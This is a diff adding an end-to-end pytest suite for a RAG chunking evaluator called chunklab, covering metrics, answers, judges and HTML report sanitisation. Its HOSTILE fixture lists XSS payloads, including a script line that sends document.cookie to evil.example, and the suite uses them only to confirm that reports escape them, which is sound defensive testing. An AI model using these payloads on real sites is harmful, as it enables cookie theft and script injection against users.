@@ -1,0 +1,491 @@
+"""The evaluator through gRPC, against the whole stack (each service its own
+process): question sets, the labelled measures on chroma-general checked
+against an independent computation, answers (extractive and streamed from a
+local OpenAI-compatible server), judges, dry runs, comparisons, feedback and
+reports that keep a hostile document's HTML dead."""
+
+from __future__ import annotations
+
+import csv
+import json
+from html.parser import HTMLParser
+
+import grpc
+import pytest
+
+from chunklab import clients, sentences
+from chunklab.v1 import common_pb2, documents_pb2, evaluator_pb2, ingest_pb2, retriever_pb2
+from tests.conftest import SHARED_DATA
+from tests.support.fake_openai import FakeOpenAI
+
+pytestmark = pytest.mark.e2e
+
+CHUNK_SIZE, OVERLAP, TOP_K = 250, 125, 5
+SECRET = "sk-test-secret-4242"
+
+
+# -- helpers --------------------------------------------------------------------
+
+def status_of(call) -> tuple[grpc.StatusCode, str]:
+    with pytest.raises(grpc.RpcError) as info:
+        result = call()
+        if hasattr(result, "__iter__") and not hasattr(result, "ListFields"):
+            list(result)
+    return info.value.code(), info.value.details()
+
+
+def upload(stack, name: str, data: bytes, collection: str = "") -> documents_pb2.Document:
+    messages = [ingest_pb2.CreateDocumentRequest(header=ingest_pb2.UploadHeader(name=name, collection=collection)),
+                ingest_pb2.CreateDocumentRequest(data=data)]
+    return clients.ingest(stack.addresses["ingest"]).CreateDocument(iter(messages), timeout=60).document
+
+
+def import_set(stack, name: str, data: bytes, mapping: dict | None = None, piece: int = 4096):
+    def messages():
+        yield evaluator_pb2.ImportQuestionSetRequest(header=evaluator_pb2.ImportHeader(name=name, document_ids=mapping or {}))
+        for start in range(0, len(data), piece):  # client-streamed in pieces, like uploads
+            yield evaluator_pb2.ImportQuestionSetRequest(data=data[start : start + piece])
+
+    return evaluator(stack).ImportQuestionSet(messages(), timeout=120)
+
+
+def evaluator(stack):
+    return clients.evaluator(stack.addresses["evaluator"])
+
+
+def fixed(chunk_size: int = CHUNK_SIZE, overlap: int = OVERLAP) -> evaluator_pb2.StrategyGrid:
+    return evaluator_pb2.StrategyGrid(strategy="fixed_size", grid=[
+        evaluator_pb2.KnobGrid(knob="chunk_size", values=[common_pb2.KnobValue(int_value=chunk_size)]),
+        evaluator_pb2.KnobGrid(knob="chunk_overlap", values=[common_pb2.KnobValue(int_value=overlap)]),
+    ])
+
+
+def run(stack, config: evaluator_pb2.ExperimentConfig, dry_run: bool = False) -> list[evaluator_pb2.ExperimentEvent]:
+    request = evaluator_pb2.RunExperimentRequest(config=config, dry_run=dry_run)
+    return list(evaluator(stack).RunExperiment(request, timeout=900))
+
+
+def finished(events) -> evaluator_pb2.Experiment:
+    experiment = events[-1].experiment
+    assert experiment.state == evaluator_pb2.EXPERIMENT_STATE_SUCCEEDED, experiment.error
+    return experiment
+
+
+def get(stack, experiment_id: str) -> evaluator_pb2.Experiment:
+    return evaluator(stack).GetExperiment(evaluator_pb2.GetExperimentRequest(experiment_id=experiment_id), timeout=60)
+
+
+def full_text(stack, document_id: str) -> str:
+    request = ingest_pb2.GetDocumentRequest(document_id=document_id, view=documents_pb2.DOCUMENT_VIEW_FULL)
+    return clients.ingest(stack.addresses["ingest"]).GetDocument(request, timeout=30).text
+
+
+# -- fixtures ---------------------------------------------------------------------
+
+@pytest.fixture(scope="module")
+def chroma(stack):
+    """chroma-general's three corpora uploaded and its questions.csv imported as it is."""
+    documents = {p.stem: upload(stack, p.name, p.read_bytes()) for p in sorted((SHARED_DATA / "corpora").glob("*.md"))}
+    question_set = import_set(stack, "chroma-general", (SHARED_DATA / "questions.csv").read_bytes())
+    return documents, question_set
+
+
+@pytest.fixture(scope="module")
+def chroma_run(stack, chroma):
+    """fixed_size 250/125, top_k 5, retrieval only, over all 276 questions."""
+    _, question_set = chroma
+    config = evaluator_pb2.ExperimentConfig(
+        name="chroma fixed 250/125", question_set_id=question_set.question_set_id, strategies=[fixed()],
+        top_k=TOP_K, retrieval_only=True,
+    )
+    events = run(stack, config)
+    return events, get(stack, finished(events).experiment_id)
+
+
+@pytest.fixture(scope="module")
+def small_set(stack, chroma):
+    """Three chatlogs questions (with their references) as a small set for the slower paths."""
+    documents, _ = chroma
+    rows = [r for r in csv.DictReader((SHARED_DATA / "questions.csv").open(encoding="utf-8"))
+            if r["corpus_id"] == "chatlogs"][:3]
+    questions = [
+        evaluator_pb2.Question(text=row["question"], references=[
+            evaluator_pb2.Reference(document_id=documents["chatlogs"].document_id, start_char=r["start_index"],
+                                    end_char=r["end_index"], content=r["content"])
+            for r in json.loads(row["references"])
+        ])
+        for row in rows
+    ]
+    request = evaluator_pb2.CreateQuestionSetRequest(name="chatlogs-3", description="three questions", questions=questions)
+    return evaluator(stack).CreateQuestionSet(request, timeout=60)
+
+
+@pytest.fixture
+def fake():
+    with FakeOpenAI() as server:
+        def responder(messages, model):
+            if "strict evaluator" in messages[0]["content"]:
+                if '"hallucination"' in messages[-1]["content"]:
+                    return json.dumps({"hallucination": "no", "reason": "supported by the context"})
+                return json.dumps({"score": 7, "reason": "judged by the fake"})
+            return "The fake model says: see the context."
+
+        server.responder = responder
+        yield server
+
+
+# -- question sets ----------------------------------------------------------------
+
+def test_the_chroma_question_set_imports_as_it_is_with_exact_references(stack, chroma):
+    documents, question_set = chroma
+    assert question_set.question_count == 276 and len(question_set.content_hash) == 64
+    stored = evaluator(stack).GetQuestionSet(
+        evaluator_pb2.GetQuestionSetRequest(question_set_id=question_set.question_set_id), timeout=30)
+    assert len(stored.questions) == 276
+    ids = {d.document_id: stem for stem, d in documents.items()}
+    texts = {d.document_id: full_text(stack, d.document_id) for d in documents.values()}
+    rows = list(csv.DictReader((SHARED_DATA / "questions.csv").open(encoding="utf-8")))
+    for question, row in zip(stored.questions, rows):
+        assert question.text == row["question"]
+        assert [(r.start_char, r.end_char) for r in question.references] == [
+            (r["start_index"], r["end_index"]) for r in json.loads(row["references"])]
+        for reference in question.references:
+            assert ids[reference.document_id] == row["corpus_id"]
+            assert texts[reference.document_id][reference.start_char : reference.end_char] == reference.content
+    # The same file again: the same content hash (provenance), a new set.
+    again = import_set(stack, "chroma-again", (SHARED_DATA / "questions.csv").read_bytes(), piece=1 << 20)
+    assert again.content_hash == question_set.content_hash and again.question_set_id != question_set.question_set_id
+    listed = evaluator(stack).ListQuestionSets(evaluator_pb2.ListQuestionSetsRequest(page_size=100), timeout=30)
+    assert {question_set.question_set_id, again.question_set_id} <= {s.question_set_id for s in listed.question_sets}
+    # An unused set can be deleted.
+    evaluator(stack).DeleteQuestionSet(evaluator_pb2.DeleteQuestionSetRequest(question_set_id=again.question_set_id), timeout=30)
+    code, _ = status_of(lambda: evaluator(stack).GetQuestionSet(
+        evaluator_pb2.GetQuestionSetRequest(question_set_id=again.question_set_id), timeout=30))
+    assert code == grpc.StatusCode.NOT_FOUND
+
+
+def test_question_files_that_do_not_fit_the_documents_are_refused_with_the_line(stack, chroma):
+    documents, _ = chroma
+    header = "question,references,corpus_id\n"
+    good = '"ok?","[]",chatlogs\n'
+    wrong = '"bad?","[{""content"": ""not this"", ""start_index"": 0, ""end_index"": 8}]",chatlogs\n'
+    code, message = status_of(lambda: import_set(stack, "bad.csv", (header + good + wrong).encode()))
+    assert code == grpc.StatusCode.INVALID_ARGUMENT and "line 3" in message
+    unknown = '"who?","[{""content"": ""x"", ""start_index"": 0, ""end_index"": 1}]",no_such_corpus\n'
+    code, message = status_of(lambda: import_set(stack, "unknown.csv", (header + unknown).encode()))
+    assert code == grpc.StatusCode.FAILED_PRECONDITION and "no_such_corpus" in message
+    code, message = status_of(lambda: import_set(stack, "notes.txt", b"what is this?\n"))
+    assert code == grpc.StatusCode.INVALID_ARGUMENT and "JSONL or CSV" in message
+    # An excerpt string located in the text, and an explicit mapping of the corpus id.
+    text = full_text(stack, documents["chatlogs"].document_id)
+    excerpt = text[1000:1060]
+    line = json.dumps({"question": "What was said?", "references": [{"corpus_id": "logs", "content": excerpt}]})
+    made = import_set(stack, "located.jsonl", line.encode(), mapping={"logs": documents["chatlogs"].document_id})
+    stored = evaluator(stack).GetQuestionSet(
+        evaluator_pb2.GetQuestionSetRequest(question_set_id=made.question_set_id), timeout=30)
+    reference = stored.questions[0].references[0]
+    assert text[reference.start_char : reference.end_char] == excerpt == reference.content
+
+
+# -- labelled measures -------------------------------------------------------------
+
+def independent_measures(chunks, references) -> dict[str, float]:
+    """A straightforward computation: sets of (document, character) pairs."""
+    relevant = {(d, i) for d, s, e in references for i in range(s, e)}
+    retrieved = {(d, i) for d, s, e in chunks for i in range(s, e)}
+    retrieved_chars = sum(e - s for _, s, e in chunks)
+    common = len(relevant & retrieved)
+    return {
+        "recall": common / len(relevant),
+        "precision": common / retrieved_chars,
+        "iou": common / (retrieved_chars + len(relevant) - common),
+    }
+
+
+def test_labelled_measures_on_chroma_general_equal_an_independent_computation(stack, chroma, chroma_run):
+    _, question_set = chroma
+    events, experiment = chroma_run
+    assert events[0].HasField("estimate") and events[0].estimate.questions == 276
+    progress = [e.progress.questions_done for e in events if e.HasField("progress")]
+    assert progress == sorted(progress) and progress[-1] == 276
+    (run_,) = experiment.runs
+    assert run_.questions_done == 276 and run_.config_id
+    questions = {q.question_id: q for q in evaluator(stack).GetQuestionSet(
+        evaluator_pb2.GetQuestionSetRequest(question_set_id=question_set.question_set_id), timeout=30).questions}
+    retriever = clients.retriever(stack.addresses["retriever"])
+    document_ids = sorted({r.document_id for q in questions.values() for r in q.references})
+    totals = {"recall": 0.0, "precision": 0.0, "iou": 0.0, "hit_rate": 0.0, "mrr": 0.0}
+    assert len(experiment.results) == 276
+    for result in experiment.results:
+        question = questions[result.question_id]
+        response = retriever.Retrieve(retriever_pb2.RetrieveRequest(
+            query=question.text, strategy="fixed_size", top_k=TOP_K,
+            filter=common_pb2.RetrievalFilter(document_ids=document_ids)), timeout=30)
+        chunks = [(c.chunk.document_id, c.chunk.start_char, c.chunk.end_char) for c in response.retrieved_chunks]
+        # The experiment saw what the retriever returns for the question.
+        assert chunks == [(c.chunk.document_id, c.chunk.start_char, c.chunk.end_char) for c in result.retrieved_chunks]
+        refs = [(r.document_id, r.start_char, r.end_char) for r in question.references]
+        expected = independent_measures(chunks, refs)
+        touching = [any(d == rd and min(e, re_) > max(s, rs) for rd, rs, re_ in refs) for d, s, e in chunks]
+        ranks = [c.rank for c, t in zip(response.retrieved_chunks, touching) if t]
+        expected["hit_rate"] = 1.0 if ranks else 0.0
+        expected["mrr"] = 1.0 / min(ranks) if ranks else 0.0
+        measured = {k: getattr(result.metrics, k) for k in expected}
+        assert measured == pytest.approx(expected, abs=1e-12), question.text
+        # Without expansion, hits only and the expanded context are the same thing.
+        assert result.metrics.recall_hits == pytest.approx(result.metrics.recall)
+        for key in totals:
+            totals[key] += expected[key]
+    means = {k: v / 276 for k, v in totals.items()}
+    summary = run_.mean_metrics
+    assert {k: getattr(summary, k) for k in means} == pytest.approx(means, abs=1e-9)
+    print(f"\nchroma-general fixed_size {CHUNK_SIZE}/{OVERLAP} top_k {TOP_K}: "
+          + ", ".join(f"{k} {100 * v:.2f}%" for k, v in means.items()))
+    # The README's independent implementation measured recall 90.8 % and IoU 4.1 % for these windows.
+    assert summary.recall == pytest.approx(0.908, abs=0.02) and summary.iou == pytest.approx(0.041, abs=0.01)
+
+
+def test_a_question_set_used_by_an_experiment_cannot_be_deleted(stack, chroma, chroma_run):
+    _, question_set = chroma
+    code, message = status_of(lambda: evaluator(stack).DeleteQuestionSet(
+        evaluator_pb2.DeleteQuestionSetRequest(question_set_id=question_set.question_set_id), timeout=30))
+    assert code == grpc.StatusCode.FAILED_PRECONDITION and chroma_run[1].experiment_id in message
+
+
+# -- answers and feedback --------------------------------------------------------------
+
+def answer(stack, chroma, question: str, model: evaluator_pb2.ModelEndpoint | None = None):
+    documents, _ = chroma
+    request = evaluator_pb2.AnswerRequest(question=question, retrieval=evaluator_pb2.RetrievalSettings(
+        strategy=common_pb2.StrategySpec(name="fixed_size"), top_k=3,
+        filter=common_pb2.RetrievalFilter(document_ids=[documents["chatlogs"].document_id])))
+    if model is not None:
+        request.answer_model.CopyFrom(model)
+    return list(evaluator(stack).Answer(request, timeout=120))
+
+
+def test_without_an_llm_the_answer_is_extractive_and_says_so(stack, chroma, chroma_run):
+    events = answer(stack, chroma, "What did people discuss about the app?")
+    kinds = [e.WhichOneof("event") for e in events]
+    assert kinds[0] == "context" and kinds[-1] == "result" and "delta" in kinds
+    context, result = events[0].context, events[-1].result
+    assert context.query_id == result.query_id and len(context.expansion_tree.hits) == 3
+    assert result.extractive and result.model == "extractive" and result.usage.llm_calls == 0
+    # The answer is whole sentences of the context, in reading order, joined by spaces.
+    rest = result.answer
+    for chunk in context.retrieved_chunks:
+        for sentence in sentences.sentences(chunk.chunk.content):
+            if rest.startswith(sentence):
+                rest = rest[len(sentence):].lstrip(" ")
+    assert result.answer and rest == ""
+    assert "".join(e.delta for e in events if e.HasField("delta")) == result.answer
+
+
+def test_an_llm_answer_streams_token_by_token(stack, chroma, chroma_run, fake):
+    fake.responder = lambda messages, model: "Streamed answer in several words."
+    model = evaluator_pb2.ModelEndpoint(base_url=fake.base_url, api_key=SECRET, model="gpt-4o-mini")
+    events = answer(stack, chroma, "What did people discuss?", model)
+    deltas = [e.delta for e in events if e.HasField("delta")]
+    result = events[-1].result
+    assert len(deltas) > 2 and "".join(deltas) == result.answer == "Streamed answer in several words."
+    assert not result.extractive and result.model == "gpt-4o-mini" and result.usage.llm_calls == 1
+    assert result.usage.estimated_cost_usd > 0
+    prompt = fake.calls[0]["body"]["messages"][-1]["content"]
+    assert all(c.chunk.content in prompt for c in events[0].context.retrieved_chunks)
+
+
+def test_feedback_is_kept_with_the_query_and_summed_per_strategy(stack, chroma, chroma_run):
+    stub = evaluator(stack)
+    first = answer(stack, chroma, "Who asked about pricing?")
+    second = answer(stack, chroma, "What went wrong?")
+    up = stub.SubmitFeedback(evaluator_pb2.SubmitFeedbackRequest(
+        query_id=first[-1].result.query_id, thumbs_up=True, comment="spot on"), timeout=30)
+    stub.SubmitFeedback(evaluator_pb2.SubmitFeedbackRequest(query_id=second[-1].result.query_id), timeout=30)
+    assert up.strategy == "fixed_size" and up.question == "Who asked about pricing?"
+    assert up.answer == first[-1].result.answer
+    assert [c.chunk.chunk_id for c in up.retrieved_chunks] == [c.chunk.chunk_id for c in first[0].context.retrieved_chunks]
+    summary = {s.strategy: (s.thumbs_up, s.thumbs_down)
+               for s in stub.SummarizeFeedback(evaluator_pb2.SummarizeFeedbackRequest(), timeout=30).strategies}
+    assert summary["fixed_size"] == (1, 1)
+    code, _ = status_of(lambda: stub.SubmitFeedback(evaluator_pb2.SubmitFeedbackRequest(query_id="nope"), timeout=30))
+    assert code == grpc.StatusCode.NOT_FOUND
+    code, _ = status_of(lambda: stub.SubmitFeedback(evaluator_pb2.SubmitFeedbackRequest(), timeout=30))
+    assert code == grpc.StatusCode.INVALID_ARGUMENT
+
+
+# -- experiments with models, dry runs, comparisons ------------------------------------------
+
+def test_an_experiment_with_llm_answers_and_judges_records_everything_but_the_key(stack, small_set, chroma_run, fake):
+    model = evaluator_pb2.ModelEndpoint(base_url=fake.base_url, api_key=SECRET, model="gpt-4o-mini")
+    config = evaluator_pb2.ExperimentConfig(
+        name="judged", question_set_id=small_set.question_set_id, strategies=[fixed()], top_k=TOP_K,
+        answer_model=model, judge_model=model,
+    )
+    experiment = get(stack, finished(run(stack, config)).experiment_id)
+    (run_,) = experiment.runs
+    assert run_.index_reused  # the chroma run left these documents indexed with 250/125
+    assert len(experiment.results) == 3
+    for result in experiment.results:
+        assert result.answer == "The fake model says: see the context." and not result.extractive
+        scores = result.judge
+        assert scores.faithfulness.measured and scores.faithfulness.value == 7
+        assert scores.faithfulness.reason == "judged by the fake"
+        assert scores.hallucination.measured and scores.hallucination.value == 0
+        assert scores.prompt_version.startswith("judge-v1+")
+        assert result.usage.llm_calls == 1 + 4 and result.usage.estimated_cost_usd > 0
+        assert 0 <= result.metrics.embedding_answer_similarity <= 1
+    assert run_.mean_judge.context_relevance.value == 7 and run_.usage.llm_calls == 15
+    provenance = experiment.provenance
+    assert provenance.answer_model == f"gpt-4o-mini at {fake.base_url}"
+    assert provenance.judge_prompt_version == experiment.results[0].judge.prompt_version
+    assert provenance.question_set_hash == small_set.content_hash and provenance.embedding_model
+    assert provenance.code_version.startswith("chunklab")
+    # The key went to the model and nowhere else.
+    listed = evaluator(stack).ListExperiments(evaluator_pb2.ListExperimentsRequest(page_size=100), timeout=30)
+    html = evaluator(stack).GetReport(evaluator_pb2.GetReportRequest(experiment_id=experiment.experiment_id), timeout=60).html
+    for blob in (experiment.SerializeToString(), listed.SerializeToString(), html.encode()):
+        assert SECRET.encode() not in blob
+
+
+def test_a_dry_run_estimates_and_calls_nothing(stack, chroma, small_set, chroma_run, fake):
+    stub = evaluator(stack)
+    before = len(stub.ListExperiments(evaluator_pb2.ListExperimentsRequest(page_size=1000), timeout=30).experiments)
+    model = evaluator_pb2.ModelEndpoint(base_url=fake.base_url, model="gpt-4o-mini")
+    config = evaluator_pb2.ExperimentConfig(
+        question_set_id=small_set.question_set_id, strategies=[fixed(chunk_size=300)], top_k=TOP_K,
+        answer_model=model, judge_model=evaluator_pb2.ModelEndpoint(base_url=fake.base_url, model="my-local-judge"),
+    )
+    events = run(stack, config, dry_run=True)
+    estimate = events[0].estimate
+    assert estimate.questions == 3 and estimate.runs == 1 and estimate.documents == 1
+    assert estimate.llm_calls == 3 * (1 + 4)
+    assert estimate.prompt_tokens > 3 * TOP_K * 300 and estimate.estimated_cost_usd > 0
+    assert any("unknown price" in note and "my-local-judge" in note for note in estimate.notes)
+    assert events[-1].experiment.runs[0].run_key == "fixed_size[chunk_size=300,chunk_overlap=125]"
+    assert not fake.calls  # no LLM was called
+    after = len(stub.ListExperiments(evaluator_pb2.ListExperimentsRequest(page_size=1000), timeout=30).experiments)
+    assert after == before  # nothing stored
+    # Nothing was processed: the index still holds the 250/125 chunks.
+    probe = clients.retriever(stack.addresses["retriever"]).Retrieve(retriever_pb2.RetrieveRequest(
+        query="anything", strategy="fixed_size", top_k=1,
+        filter=common_pb2.RetrievalFilter(document_ids=[chroma[0]["chatlogs"].document_id])), timeout=30)
+    assert probe.expansion_tree.hits[0].hit.chunk.config_id == chroma_run[1].runs[0].config_id
+
+
+def test_compare_warns_on_different_neighbours_and_gives_bootstrap_intervals(stack, small_set, chroma_run):
+    base = evaluator_pb2.ExperimentConfig(question_set_id=small_set.question_set_id, strategies=[fixed()],
+                                          top_k=2, retrieval_only=True)
+    wide = evaluator_pb2.ExperimentConfig()
+    wide.CopyFrom(base)
+    wide.neighbor_prev = wide.neighbor_next = 1
+    first = finished(run(stack, base))
+    second = finished(run(stack, wide))
+    reply = evaluator(stack).CompareExperiments(evaluator_pb2.CompareExperimentsRequest(
+        experiment_ids=[first.experiment_id, second.experiment_id], bootstrap_samples=500), timeout=60)
+    assert any("neighbour expansion differs" in w and "±0/0" in w and "±1/1" in w for w in reply.warnings)
+    by_metric = {d.metric: d for d in reply.differences}
+    for name in ("recall", "precision", "iou", "tokens_sent", "recall_hits"):
+        d = by_metric[name]
+        assert d.shared_questions == 3 and d.ci_low <= d.difference <= d.ci_high
+        assert d.baseline_experiment_id == first.experiment_id and d.experiment_id == second.experiment_id
+    assert by_metric["tokens_sent"].difference > 0  # neighbours add context
+    assert by_metric["recall_hits"].difference == 0  # the hits are the same
+    assert by_metric["recall"].difference >= 0
+    code, _ = status_of(lambda: evaluator(stack).CompareExperiments(
+        evaluator_pb2.CompareExperimentsRequest(experiment_ids=[first.experiment_id]), timeout=30))
+    assert code == grpc.StatusCode.INVALID_ARGUMENT
+
+
+def test_bad_experiments_are_refused_with_a_reason(stack, small_set, chroma_run):
+    stub = evaluator(stack)
+    cases = [
+        (evaluator_pb2.ExperimentConfig(question_set_id=small_set.question_set_id,
+                                        strategies=[evaluator_pb2.StrategyGrid(strategy="magic")]),
+         grpc.StatusCode.INVALID_ARGUMENT, "unknown strategy"),
+        (evaluator_pb2.ExperimentConfig(question_set_id=small_set.question_set_id, strategies=[fixed(chunk_size=2)]),
+         grpc.StatusCode.INVALID_ARGUMENT, "chunk_size"),
+        (evaluator_pb2.ExperimentConfig(question_set_id=small_set.question_set_id, strategies=[fixed()], top_k=500),
+         grpc.StatusCode.INVALID_ARGUMENT, "top_k"),
+        (evaluator_pb2.ExperimentConfig(question_set_id="no-such-set", strategies=[fixed()]),
+         grpc.StatusCode.NOT_FOUND, "no-such-set"),
+    ]
+    for config, code, words in cases:
+        got, message = status_of(lambda: run(stack, config))
+        assert got == code and words in message, message
+    got, _ = status_of(lambda: stub.GetReport(evaluator_pb2.GetReportRequest(experiment_id="nope"), timeout=30))
+    assert got == grpc.StatusCode.NOT_FOUND
+    got, message = status_of(lambda: list(stub.RunExperiment(evaluator_pb2.RunExperimentRequest(
+        resume_experiment_id=chroma_run[1].experiment_id), timeout=30)))
+    assert got == grpc.StatusCode.FAILED_PRECONDITION and "succeeded" in message
+
+
+# -- reports ------------------------------------------------------------------------------
+
+HOSTILE = """# Totally normal notes <script>alert('title')</script>
+
+Quarterly figures are <script>document.location='https://evil.example/'+document.cookie</script> fine.
+An image <img src=x onerror="alert(1)"> and a link <a href="javascript:alert(2)">click</a> sit here.
+Closing tricks: </textarea></pre></details></style></title><svg onload=alert(3)><iframe src="javascript:alert(4)"></iframe>
+A comment <!-- hidden --> and <body onload=alert(5)> and <div style="background:url(javascript:alert(6))">x</div>.
+Attribute break-out: " onmouseover="alert(7)" ' onfocus='alert(8)' and &lt;already escaped&gt; text.
+<math><mi xlink:href="javascript:alert(9)">m</mi></math> <object data="javascript:alert(10)"></object>
+"""
+OUR_TAGS = {"html", "head", "meta", "title", "style", "body", "header", "h1", "h2", "h3", "h5", "p", "nav", "a", "section",
+            "span", "strong", "table", "thead", "tbody", "tr", "th", "td", "figure", "svg", "rect", "text", "circle",
+            "line", "details", "summary", "div", "pre", "ol", "li", "br"}
+
+
+class Elements(HTMLParser):
+    def __init__(self):
+        super().__init__(convert_charrefs=True)
+        self.tags: list[tuple[str, list]] = []
+        self.comments: list[str] = []
+
+    def handle_starttag(self, tag, attrs):
+        self.tags.append((tag, attrs))
+
+    def handle_comment(self, data):
+        self.comments.append(data)
+
+
+def test_a_report_keeps_every_trick_of_a_hostile_document_dead(stack, tmp_path):
+    document = upload(stack, "hostile.md", HOSTILE.encode(), collection="report-test")
+    questions = "\n".join(json.dumps(q) for q in [
+        {"question": "What are the <script>alert('q')</script> quarterly figures?",
+         "references": [{"document_id": document.document_id, "content": "<img src=x onerror=\"alert(1)\">"}]},
+        {"question": "Which link is there?", "expected_answer": "<a href=\"javascript:alert(2)\">click</a>",
+         "references": [{"document_id": document.document_id, "content": "</textarea></pre></details>"}]},
+    ])
+    question_set = import_set(stack, "hostile.jsonl", questions.encode())
+    config = evaluator_pb2.ExperimentConfig(
+        name="<script>alert('name')</script>", question_set_id=question_set.question_set_id,
+        strategies=[fixed(chunk_size=24, overlap=0)], top_k=3, neighbor_prev=1,
+    )
+    experiment = finished(run(stack, config))
+    stub = evaluator(stack)
+    report = stub.GetReport(evaluator_pb2.GetReportRequest(experiment_id=experiment.experiment_id), timeout=60)
+    assert report.file_name.endswith(".html") and "<" not in report.file_name
+    html = report.html
+    parser = Elements()
+    parser.feed(html)
+    tags = [t for t, _ in parser.tags]
+    assert set(tags) <= OUR_TAGS, set(tags) - OUR_TAGS
+    assert "script" not in tags and not parser.comments
+    for tag, attrs in parser.tags:
+        for name, value in attrs:
+            assert not name.startswith("on"), (tag, name)
+            assert "javascript:" not in (value or "").lower(), (tag, name, value)
+            if name == "href":
+                assert value.startswith("#"), value
+    assert tags.count("style") == 1 and tags.count("title") == 1 + tags.count("svg")
+    # The text is there, escaped: a reader sees the tricks as text.
+    assert "&lt;script&gt;" in html and "onerror=&quot;alert(1)&quot;" in html
+    assert "Content-Security-Policy" in html
+    # The views can be asked for one at a time.
+    managerial = stub.GetReport(evaluator_pb2.GetReportRequest(
+        experiment_id=experiment.experiment_id, view=evaluator_pb2.REPORT_VIEW_MANAGERIAL), timeout=60).html
+    technical = stub.GetReport(evaluator_pb2.GetReportRequest(
+        experiment_id=experiment.experiment_id, view=evaluator_pb2.REPORT_VIEW_TECHNICAL), timeout=60).html
+    assert 'id="managerial"' in managerial and 'id="technical"' not in managerial
+    assert 'id="technical"' in technical and "Expansion tree" in technical and "<svg" not in technical
+    (tmp_path / report.file_name).write_text(html)
